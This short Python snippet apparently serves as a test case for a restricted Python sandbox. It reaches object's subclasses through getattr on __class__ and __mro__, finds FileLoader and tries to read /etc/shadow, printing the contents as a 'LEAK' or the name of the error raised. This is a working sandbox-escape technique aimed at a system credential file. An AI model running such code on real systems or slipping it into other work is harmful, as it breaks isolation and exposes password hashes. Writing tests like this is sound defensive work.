# the same by __mro__ and getattr of constant names; reads a file
try:
    base = getattr(getattr("", "__class__"), "__mro__")[-1]
    for cls in getattr(base, "__subclasses__")():
        if cls.__name__ == "FileLoader":
            print("LEAK:", cls("x", "/etc/shadow").get_data("/etc/shadow"))
except Exception as error:
    print(type(error).__name__)
